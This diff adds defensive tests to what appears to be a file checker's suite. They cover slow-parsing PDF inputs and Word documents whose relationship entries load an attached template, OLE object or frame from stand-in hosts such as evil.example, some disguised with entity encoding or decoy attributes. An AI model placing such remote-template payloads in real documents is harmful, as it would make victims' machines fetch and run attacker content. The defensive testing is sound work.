@@ -74,6 +74,16 @@ describe("a PDF", () => {
     expect(await judged(aPdf({ more: `${link}\n${packed("5 0 << /Type /Font >>")}` }), "a.pdf")).toBe("pdf");
   });
 
+  it.each([
+    ["names of packed objects far from any", `${"/ObjStm ".repeat(60_000)}\nstream\nx\nendstream`],
+    ["packed objects that all end at one place", `${"/ObjStm stream\n".repeat(60_000)}\nendstream`],
+    ["names of authors that never end", "<dc:creator>".repeat(200_000) + "/Author(".repeat(200_000)],
+  ])("made of %s costs no more time than another", async (_, more) => {
+    const began = performance.now();
+    await judged(aPdf({ more }), "a.pdf");
+    expect(performance.now() - began).toBeLessThan(1500);
+  });
+
   it("tells whom it names as author, however that is written", async () => {
     expect(await found(aPdf({ info: "/Author (Ana Ru\\355z \\(MINSA\\))" }), "a.pdf")).toEqual({
       names: ["Ana Ruíz (MINSA)"],
@@ -86,6 +96,9 @@ describe("a PDF", () => {
     expect(await found(aPdf(), "a.pdf")).toEqual({ names: [], remarks: false });
   });
 });
+
+const kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const away = (part: string, rels: string): Buffer => aDocx([{ name: `word/_rels/${part}.xml.rels`, text: rels }]);
 
 describe("a document of an office program", () => {
   it.each([
@@ -104,8 +117,46 @@ describe("a document of an office program", () => {
         },
       ]),
     ],
+    [
+      "a template whose address stands first",
+      away("settings", '<Relationship TargetMode="External" Target="https://evil.example/t.dotm" Type="http://x/attachedTemplate"/>'),
+    ],
+    [
+      "a template whose kind is spelled by codes",
+      away("settings", '<r:Relationship Type="http://x/attachedT&#x65;mplate" Target="&#104;ttps://evil.example/t.dotm"/>'),
+    ],
+    [
+      "a template behind a local one",
+      away("settings", `<Relationship Id=' Target="file:///C:/a"' Target="https://evil.example/t" Type="http://x/attachedTemplate"/>`),
+    ],
+    [
+      "an object from elsewhere",
+      away("document", `<Relationship Type="${kinds}/oleObject" Target="mhtml:https://e.example/x!https://e"/>`),
+    ],
+    ["a frame from elsewhere", away("webSettings", `<Relationship Type="${kinds}/frame" Target="\\\\evil.example\\x" />`)],
   ])("with %s is refused", async (_, bytes) => {
     expect(await judged(bytes, "a.docx")).toBe("acts");
+  });
+
+  it("with links, linked pictures and the template of its own machine is taken", async () => {
+    const link = `<Relationship Type="${kinds}/hyperlink" Target="https://iom.int/oleObject" TargetMode="External"/>`;
+    const image = `<Relationship Type="${kinds}/image" Target="https://iom.int/a.png" TargetMode="External"/>`;
+    const own = `<Relationship Type="${kinds}/attachedTemplate" Target="file:///C:/Users/ana/Normal.dotm" TargetMode="External"/>`;
+    expect(await judged(away("document", link + image + own), "a.docx")).toBe("docx");
+  });
+
+  it("whose description nobody here can read as programs do is refused: in another encoding, twice, or behind a long end", async () => {
+    const rels = `<Relationship Type="${kinds}/attachedTemplate" Target="https://evil.example/t.dotm"/>`;
+    expect(await judged(aDocx([{ name: "word/_rels/settings.xml.rels", text: Buffer.from(rels, "utf16le") }]), "a.docx")).toBe("broken");
+    expect(await judged(aDocx([{ name: "[Content_Types].xml", text: "<Types/>" }]), "a.docx")).toBe("broken");
+    expect(await judged(away("settings", " ".repeat(9_000_000) + rels), "a.docx")).toBe("bomb");
+  });
+
+  it("costs no more time than another, whatever its descriptions repeat", async () => {
+    const began = performance.now();
+    await judged(away("settings", 'attachedTemplate" '.repeat(50_000)), "a.docx");
+    await judged(away("settings", '<Relationship Target="'.repeat(300_000)), "a.docx");
+    expect(performance.now() - began).toBeLessThan(1500);
   });
 
   it("that unpacks beyond every measure is refused, whatever size it claims", async () => {
